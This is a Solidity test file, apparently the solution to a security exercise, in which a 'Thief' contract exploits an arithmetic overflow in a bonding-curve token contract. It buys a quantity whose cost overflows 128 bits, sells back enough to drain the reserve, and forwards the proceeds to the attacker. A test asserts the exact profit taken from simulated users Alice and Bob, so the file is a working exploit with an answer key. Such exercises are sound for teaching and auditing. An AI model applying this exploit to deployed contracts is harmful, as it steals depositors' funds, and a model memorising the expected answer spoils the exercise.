// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Token} from "../unsafe-math/src/Imports.sol";
import {GrowthCurve} from "../unsafe-math/src/GrowthCurve.sol";

interface Vm {
    function prank(address) external;
}

contract Thief {
    function attack(Token money, GrowthCurve curve) external {
        money.approve(address(curve), type(uint256).max);
        uint256 supply = curve.totalSupply();
        uint256 depth = curve.DEPTH();
        // The first purchase whose cost does not fit.
        uint256 tokens = _sqrt(supply * supply + (2 ** 128 - 1) * depth) - supply;
        while (curve.costOf(tokens) < 2 ** 128) ++tokens;
        curve.buy(tokens, type(uint256).max, address(this));
        // As much as the reserve pays for.
        supply = curve.totalSupply();
        uint256 part = supply - _sqrt(supply * supply - curve.reserve() * depth);
        while (curve.refundOf(part) > curve.reserve()) --part;
        curve.sell(part, 0);
        money.transfer(msg.sender, money.balanceOf(address(this)));
    }

    function _sqrt(uint256 value) private pure returns (uint256 root) {
        root = value;
        uint256 next = value / 2 + 1;
        while (next < root) {
            root = next;
            next = (value / next + next) / 2;
        }
    }
}

contract UnsafeMathTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant ATTACKER = address(0xBAD);

    Token money;
    GrowthCurve curve;

    function setUp() public {
        money = new Token("Money", "MNY");
        curve = new GrowthCurve(money, address(this));
        money.mint(ALICE, 3_000_000 ether);
        money.mint(BOB, 1_500_000 ether);
        money.mint(ATTACKER, 6_000 ether);
        vm.prank(ALICE);
        money.approve(address(curve), 1e60);
        vm.prank(BOB);
        money.approve(address(curve), 1e60);
        vm.prank(ALICE);
        curve.spend(2_890_000 ether, 0, ALICE);
        vm.prank(BOB);
        curve.buy(600_000 ether, 1e60, BOB);
        vm.prank(BOB);
        curve.sell(40_000 ether, 0);
    }

    function test_attack_pays() public {
        Thief thief = new Thief();
        uint256 before = money.balanceOf(ATTACKER);
        vm.prank(ATTACKER);
        money.transfer(address(thief), 1 ether);
        vm.prank(ATTACKER);
        thief.attack(money, curve);
        uint256 profit = money.balanceOf(ATTACKER) - before;
        assert(profit == EXPECTED);
    }

    uint256 private constant EXPECTED = 3_889_036_799_999_999_999_856_416;
}
